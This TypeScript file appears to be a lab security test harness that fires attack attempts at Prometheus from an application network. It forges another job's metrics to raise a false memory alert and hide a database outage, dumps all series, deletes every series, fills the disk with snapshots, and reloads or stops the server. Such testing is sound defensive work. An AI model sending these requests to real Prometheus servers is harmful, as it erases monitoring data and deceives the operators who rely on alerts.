/** Prometheus: reading its data, writing or erasing it, reloading or stopping it. */
import { harnessCall, harnessQuery, type AttackContext } from "../context";
import { notOk, ok } from "./types";
import { type Attempt } from "./types";
import { applicationAttempt, fromApplication, prometheusStillServes, reloadBySignal, scrapedUp } from "./common";

const FEDERATE = `/federate?${new URLSearchParams({ "match[]": '{job=~".+"}' })}`;
const EVERY_SERIES = new URLSearchParams({ "match[]": '{__name__=~".+"}' });

/**
 * Series an attacker who owns an application container writes into its own `/metrics`, labelled as another job's:
 * a host out of memory (a false page), and a database that is up (to hide an outage).
 */
const FORGED = [
  "# TYPE node_memory_MemAvailable_bytes gauge",
  'node_memory_MemAvailable_bytes{job="node",instance="vps"} 1',
  "# TYPE pg_up gauge",
  'pg_up{job="postgresql",instance="koprogo-postgres:5432"} 1',
  "",
].join("\n");

/** The forged series as Prometheus stored them: under the victim job (the forgery worked) or not. */
async function forgedSeries(ctx: AttackContext): Promise<{ underVictim: number; stored: number }> {
  const [victim, stored] = await Promise.all([
    // The lab's real exporters say otherwise (the host has memory; no PostgreSQL runs, so the real pg_up is 0).
    harnessQuery(
      ctx,
      'count(node_memory_MemAvailable_bytes{job="node"} == 1) or count(pg_up{job="postgresql"} == 1) or vector(0)',
    ),
    harnessQuery(ctx, 'count(node_memory_MemAvailable_bytes{exported_job="node"}) or vector(0)'),
  ]);
  return { underVictim: Number(victim[0]?.value[1] ?? 0), stored: Number(stored[0]?.value[1] ?? 0) };
}

export const PROMETHEUS_ATTEMPTS: readonly Attempt[] = [
  {
    id: "prom-forged-series",
    title:
      "write another job's series into Prometheus through an application target's own /metrics (a false MemoryExhaustion page, a database shown up)",
    from: "the application's network",
    mode: "network",
    phase: 2,
    async run(ctx) {
      const traefik = ctx.settings.targets.traefik;
      if (!traefik)
        return {
          succeeded: false,
          detail: "no application target but the API (targets.traefik is null): nothing else to own",
          harness: ok("no second application target"),
        };
      const [host, port] = [
        traefik.slice(0, traefik.lastIndexOf(":")),
        Number(traefik.slice(traefik.lastIndexOf(":") + 1)),
      ];
      await ctx.lab.serveFromApplication(host, port, FORGED);
      // Two scrapes at the profile's interval, and an evaluation: the forged samples are in, or they never will be.
      const deadline = Date.now() + 15_000;
      let found = { underVictim: 0, stored: 0 };
      while (Date.now() < deadline) {
        await new Promise((resolve) => setTimeout(resolve, 1000));
        found = await forgedSeries(ctx);
        if (found.stored > 0 || found.underVictim > 0) break;
      }
      const memory = await harnessQuery(ctx, 'ALERTS{alertname="MemoryExhaustion"}');
      return {
        succeeded: found.underVictim > 0 || memory.length > 0,
        detail: `${host}:${port} serves node_memory_MemAvailable_bytes{job="node"} 1 and pg_up{job="postgresql"} 1: ${found.underVictim > 0 ? "stored under the victim jobs" : `kept under job traefik (exported_job: ${found.stored} series)`}; MemoryExhaustion ${memory.length > 0 ? "PENDING/FIRING" : "not raised"}`,
        harness:
          found.stored > 0 || found.underVictim > 0
            ? ok(
                `Prometheus scraped the forged target (its series are there${found.underVictim > 0 ? "" : ", relabelled exported_job"})`,
              )
            : notOk("Prometheus never scraped the forged target: the attempt proves nothing"),
      };
    },
  },
  applicationAttempt({
    id: "prom-query",
    title: "read private metrics through Prometheus (GET /api/v1/query?query=up)",
    service: "prometheus",
    request: (base) => ({ url: `${base}/api/v1/query?query=up` }),
    harness: (ctx) => harnessCall(ctx, "prometheus", { path: "/api/v1/query?query=up" }),
  }),
  applicationAttempt({
    id: "prom-federate",
    title: 'dump every series (GET /federate?match[]={job=~".+"})',
    service: "prometheus",
    request: (base) => ({ url: `${base}${FEDERATE}` }),
    harness: (ctx) => harnessCall(ctx, "prometheus", { path: FEDERATE }),
  }),
  {
    id: "prom-config",
    title: "read Prometheus's configuration and targets (GET /api/v1/status/config, /api/v1/targets)",
    from: "the application's network",
    mode: "network",
    phase: 1,
    async run(ctx) {
      const [config, targets] = await Promise.all([
        fromApplication(ctx, "prometheus", (base) => ({ url: `${base}/api/v1/status/config` })),
        fromApplication(ctx, "prometheus", (base) => ({ url: `${base}/api/v1/targets` })),
      ]);
      return {
        succeeded: config.succeeded || targets.succeeded,
        detail: `config: ${config.detail} | targets: ${targets.detail}`,
        harness: await harnessCall(ctx, "prometheus", { path: "/api/v1/status/config" }),
      };
    },
  },
  applicationAttempt({
    id: "prom-metrics",
    title: "read Prometheus's own metrics (GET /metrics)",
    service: "prometheus",
    request: (base) => ({ url: `${base}/metrics` }),
    harness: (ctx) => scrapedUp(ctx, "prometheus"),
  }),
  {
    id: "prom-remote-write",
    title: "write fake samples into Prometheus (POST /api/v1/write, /api/v1/otlp/v1/metrics)",
    from: "the application's network",
    mode: "network",
    phase: 2,
    async run(ctx) {
      const [write, otlp] = await Promise.all([
        fromApplication(ctx, "prometheus", (base) => ({
          method: "POST",
          url: `${base}/api/v1/write`,
          headers: {
            "Content-Type": "application/x-protobuf",
            "Content-Encoding": "snappy",
            "X-Prometheus-Remote-Write-Version": "0.1.0",
          },
          body: "",
        })),
        fromApplication(ctx, "prometheus", (base) => ({
          method: "POST",
          url: `${base}/api/v1/otlp/v1/metrics`,
          headers: { "Content-Type": "application/x-protobuf" },
          body: "",
        })),
      ]);
      return {
        succeeded: write.succeeded || otlp.succeeded,
        detail: `remote write: ${write.detail} | OTLP: ${otlp.detail}`,
        harness: await prometheusStillServes(ctx),
      };
    },
  },
  {
    id: "prom-delete-series",
    title: 'erase every series (POST /api/v1/admin/tsdb/delete_series?match[]={__name__=~".+"}, clean_tombstones)',
    from: "the application's network",
    mode: "network",
    phase: 2,
    async run(ctx) {
      const [remove, clean] = await Promise.all([
        fromApplication(ctx, "prometheus", (base) => ({
          method: "POST",
          url: `${base}/api/v1/admin/tsdb/delete_series?${EVERY_SERIES}`,
        })),
        fromApplication(ctx, "prometheus", (base) => ({
          method: "POST",
          url: `${base}/api/v1/admin/tsdb/clean_tombstones`,
        })),
      ]);
      return {
        succeeded: remove.succeeded || clean.succeeded,
        detail: `delete_series: ${remove.detail} | clean_tombstones: ${clean.detail}`,
        harness: await prometheusStillServes(ctx),
      };
    },
  },
  applicationAttempt({
    id: "prom-snapshot",
    title: "fill the disk with TSDB snapshots (POST /api/v1/admin/tsdb/snapshot)",
    phase: 2,
    service: "prometheus",
    request: (base) => ({ method: "POST", url: `${base}/api/v1/admin/tsdb/snapshot` }),
    harness: (ctx) => prometheusStillServes(ctx),
  }),
  applicationAttempt({
    id: "prom-reload",
    title: "make Prometheus reload (POST /-/reload)",
    phase: 2,
    service: "prometheus",
    request: (base) => ({ method: "POST", url: `${base}/-/reload` }),
    // The program reloads with SIGHUP (`docker kill --signal=HUP`): the reload time moves.
    harness: (ctx) => reloadBySignal(ctx, "prometheus"),
  }),
  {
    id: "prom-quit",
    title: "stop Prometheus (POST /-/quit)",
    from: "the application's network",
    mode: "network",
    phase: 3,
    async run(ctx) {
      const attempt = await fromApplication(ctx, "prometheus", (base) => ({ method: "POST", url: `${base}/-/quit` }));
      // A 200 is the quit itself; give the process a moment to go, then ask as the harness.
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { ...attempt, harness: await prometheusStillServes(ctx) };
    },
  },
];
